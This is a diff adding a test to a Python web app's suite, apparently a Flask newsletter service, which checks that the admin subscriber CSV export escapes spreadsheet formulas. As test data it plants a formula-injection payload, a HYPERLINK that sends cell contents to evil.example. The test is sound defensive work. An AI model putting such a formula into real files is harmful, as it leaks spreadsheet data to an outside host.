@@ -177,3 +177,17 @@ def test_invitation_and_password_reset_are_emailed(mail_app, smtp_server):
     assert b"was emailed" in reset.data
     [message] = smtp_server.messages("writer@example.org")
     assert "/reset-password/" in message.get_content()
+
+
+def test_subscriber_export_escapes_formulas(app):
+    client = _admin_client(app)
+    with app.app_context():
+        [subscriber] = add_subscribers(1)
+        subscriber.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+        subscriber.tags = "@SUM(1), -2"
+        db.session.commit()
+    export = client.get("/newsletter/admin/subscribers.csv")
+    assert export.headers["Cache-Control"] == "no-store"
+    [row] = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert row["tags"] == "'@SUM(1), -2" and row["email"] == "reader0@example.org"
